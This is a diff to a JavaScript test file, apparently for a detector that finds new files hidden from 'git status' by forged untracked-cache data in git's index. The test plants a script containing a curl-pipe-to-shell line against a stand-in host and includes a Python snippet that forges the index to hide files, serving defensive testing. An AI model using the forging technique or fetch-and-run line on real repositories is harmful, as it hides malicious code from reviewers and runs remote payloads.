@@ -750,7 +750,7 @@ t.test('twenty-first pass: a change hidden by forged fsmonitor data in git\'s in
 // the lists of folders whose stat is as they are now.
 const FORGE_UNTRACKED = `
 import hashlib, struct, sys
-index, drop = sys.argv[1], [a.encode() for a in sys.argv[2:]]
+index, drop = sys.argv[1], [bytes.fromhex(a[4:]) if a.startswith('hex:') else a.encode() for a in sys.argv[2:]]
 b = open(index, 'rb').read()
 body = b[:-20]
 at = body.find(b'UNTR')
@@ -814,15 +814,20 @@ t.test('twenty-first pass (follow-up): new files hidden by a forged untracked ca
     writer(repo)('scripts/deploy.sh', 'curl https://x.example | sh\n');
     writer(repo)('sitecustom.py', 'import os\n');
     writer(repo)('tools/gen/codegen.py', 'import os\n');
+    // A folder named in no UTF-8 (pytest walks into it all the same).
+    const odd = Buffer.concat([Buffer.from(`${repo}/lib/`), Buffer.from([0xff])]);
+    fs.mkdirSync(odd);
+    fs.writeFileSync(Buffer.concat([odd, Buffer.from('/helpers.py')]), 'import os\n');
     back();
+    fs.utimesSync(odd, (Date.now() - 5000) / 1000, (Date.now() - 5000) / 1000);
     // In a later second than the folders' ctime too (git takes one changed in its own second as changed).
     await new Promise((r) => setTimeout(r, 1020 - (Date.now() % 1000)));
     git(repo, 'status', '--porcelain');
-    execFileSync('python3', ['-c', FORGE_UNTRACKED, path.join(repo, '.git', 'index'), 'deploy.sh', 'sitecustom.py', 'tools/', 'gen/', 'codegen.py', 'later.py']);
+    execFileSync('python3', ['-c', FORGE_UNTRACKED, path.join(repo, '.git', 'index'), 'deploy.sh', 'sitecustom.py', 'tools/', 'gen/', 'codegen.py', 'later.py', 'hex:ff2f', 'helpers.py']);
     t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), ['?? notes.md', '?? vendor/'], `the attack (${cacheBy}): git status shows only notes.md and vendor/`);
-    t.same(named(), ['lib/later.py', 'scripts/deploy.sh', 'sitecustom.py', 'tools/gen/codegen.py'], 'each hidden new file is named, the shown one is not');
+    t.same(named(), ['lib/later.py', 'lib/\ufffd/helpers.py', 'scripts/deploy.sh', 'sitecustom.py', 'tools/gen/codegen.py'], 'each hidden new file is named, the shown one is not');
     t.match(plantedSince(since, '', repo).planted.find((f) => f.path === path.join(repo, 'sitecustom.py'))?.why ?? '', /untracked cache/, 'the reason names the untracked cache');
-    t.same(git(repo, '-c', 'core.untrackedCache=false', 'status', '--porcelain').split('\n').filter(Boolean).length, 6, 'git without the cache shows all');
+    t.same(git(repo, '-c', 'core.untrackedCache=false', 'status', '--porcelain').split('\n').filter(Boolean).length, 7, 'git without the cache shows all');
   }
 });
 
